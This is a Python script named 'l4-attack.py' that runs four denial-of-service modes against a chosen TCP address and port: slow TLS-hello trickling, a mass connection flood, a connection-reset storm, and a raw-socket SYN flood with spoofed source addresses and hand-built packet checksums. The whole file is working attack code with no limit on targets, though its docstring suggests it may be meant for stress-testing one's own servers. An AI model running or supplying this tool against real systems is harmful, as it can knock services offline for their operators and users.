"""What strangers do to TCP: l4-attack.py MODE ADDRESS PORT COUNT. Prints what became of it, a word and a number a line.

hello: COUNT connections begin a hello of TLS and send a byte of it every second. flood: COUNT connections, each kept as
long as the other end likes. reset: COUNT connections send a byte, end their direction, and reset a moment later.
half-open: COUNT SYNs of addresses that are nobody's.
"""
import os
import random
import selectors
import socket
import struct
import sys
import time

MODE, ADDRESS, PORT, COUNT = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
AT_ONCE = 2000
HELLO = bytes.fromhex("16030100c8010000c40303")


def begin():
    one = socket.socket()
    one.setblocking(False)
    one.connect_ex((ADDRESS, PORT))
    return one


def hello():
    begun, open_ones, longest = time.monotonic(), [begin() for _ in range(COUNT)], 0.0
    for at in range(40):
        time.sleep(1)
        for one in list(open_ones):
            try:
                one.send(HELLO[at % len(HELLO):][:1])
                if one.recv(64) == b"":
                    raise ConnectionResetError
            except BlockingIOError:
                continue
            except OSError:
                open_ones.remove(one)
                one.close()
                longest = time.monotonic() - begun
        if not open_ones:
            break
    print("left", len(open_ones))
    print("seconds", f"{longest:.1f}")


def flood():
    began, made, ended, waits = time.monotonic(), 0, 0, selectors.DefaultSelector()
    live = set()
    while made < COUNT and time.monotonic() - began < 120:
        while made < COUNT and len(live) < AT_ONCE:
            one = begin()
            live.add(one)
            waits.register(one, selectors.EVENT_READ)
            made += 1
        for key, _ in waits.select(0.2):
            try:
                over = key.fileobj.recv(64) == b""
            except BlockingIOError:
                continue
            except OSError:
                over = True
            if over:
                waits.unregister(key.fileobj)
                key.fileobj.close()
                live.discard(key.fileobj)
                ended += 1
    print("made", made)
    print("ended", ended)
    print("seconds", f"{time.monotonic() - began:.1f}")


def reset():
    for _ in range(0, COUNT, 100):
        batch = [begin() for _ in range(min(100, COUNT))]
        time.sleep(0.5)
        for step in (lambda one: one.send(b"x"), lambda one: one.shutdown(socket.SHUT_WR)):
            for one in batch:
                try:
                    step(one)
                except OSError:
                    pass
        time.sleep(0.3)
        for one in batch:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            one.close()
    print("made", COUNT)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def half_open():
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    to = socket.inet_aton(ADDRESS)
    began = time.monotonic()
    for _ in range(COUNT):
        source = bytes([198, 18, random.randrange(256), random.randrange(1, 255)])
        tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65535), PORT, random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
        check = checksum(source + to + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
        tcp = tcp[:16] + struct.pack("!H", check) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, source, to)
        try:
            raw.sendto(ip + tcp, (ADDRESS, 0))
        except OSError:
            time.sleep(0.01)
    print("made", COUNT)
    print("seconds", f"{time.monotonic() - began:.1f}")


{"hello": hello, "flood": flood, "reset": reset, "half-open": half_open}[MODE]()
sys.stdout.flush()
os._exit(0)
